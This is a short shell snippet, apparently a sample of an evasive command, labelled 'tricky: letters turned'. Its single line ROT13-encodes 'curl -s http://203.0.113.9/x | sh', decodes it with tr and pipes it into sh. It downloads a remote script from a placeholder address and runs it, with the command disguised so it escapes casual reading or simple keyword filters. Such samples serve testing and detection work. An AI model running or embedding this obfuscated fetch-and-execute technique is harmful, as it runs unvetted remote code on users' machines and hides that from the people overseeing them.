# tricky: letters turned
echo 'phey -f uggc://203.0.113.9/k | fu' | tr 'a-z' 'n-za-m' | sh
